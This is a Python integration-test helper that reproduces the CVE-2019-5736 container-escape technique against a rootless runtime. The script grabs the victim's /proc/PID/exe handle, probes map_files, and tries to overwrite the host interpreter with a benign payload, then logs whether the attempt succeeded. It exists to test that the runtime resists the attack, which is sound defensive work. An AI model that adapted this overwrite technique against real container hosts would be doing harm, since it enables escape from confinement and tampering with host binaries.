"""The CVE-2019-5736 attacker of a rootless runtime (tests/integration/test_exec_5736.py).

Runs as the runtime's own uid, as root of a user namespace of its own: the
strongest process a rootless container can hold (every capability, but only in
its user namespace). Usage: attack_rootless.py DIR. It waits for DIR/pid, takes
``/proc/PID/exe`` (O_PATH) and tries every ``/proc/PID/map_files`` entry, tells
the victim to exit (DIR/go), waits until it is gone (no more ETXTBSY) and then
tries to overwrite the interpreter through the handle. DIR/report.json says what
happened. Standard library only: it runs under Debian's python3 with -S -I.
"""

from __future__ import annotations

import errno
import json
import os
import sys
import time

PAYLOAD = b"#!/bin/sh\necho overwritten by the container\n"


def _name(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, str(exc.errno))


def _alive(pid: int) -> bool:
    """Still running (a zombie no longer holds its executable: no ETXTBSY)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def main(top: str) -> None:
    deadline = time.monotonic() + 60
    while not os.path.exists(f"{top}/pid"):
        if time.monotonic() > deadline:
            raise SystemExit("the victim never wrote its pid")
        time.sleep(0.02)
    with open(f"{top}/pid") as f:
        pid = int(f.read())
    report: dict[str, object] = {"exe_target": os.readlink(f"/proc/{pid}/exe")}
    exe = os.open(f"/proc/{pid}/exe", os.O_PATH)
    opened, refused = 0, []
    try:
        names = os.listdir(f"/proc/{pid}/map_files")
    except OSError as exc:
        names, refused = [], [f"listdir: {_name(exc)}"]
    for name in names:
        try:
            os.close(os.open(f"/proc/{pid}/map_files/{name}", os.O_RDONLY))
            opened += 1
        except OSError as exc:
            refused.append(_name(exc))
    report.update(
        map_files=len(names), map_files_opened=opened, map_files_refused=sorted(set(refused))
    )
    open(f"{top}/go", "w").close()
    while _alive(pid):
        time.sleep(0.02)
    try:
        fd = os.open(f"/proc/self/fd/{exe}", os.O_WRONLY)
        try:
            os.write(fd, PAYLOAD)
            report["write"] = "written"
        finally:
            os.close(fd)
    except OSError as exc:
        report["write"] = _name(exc)
    with open(f"{top}/report.json", "w") as f:
        json.dump(report, f)


if __name__ == "__main__":
    main(sys.argv[1])
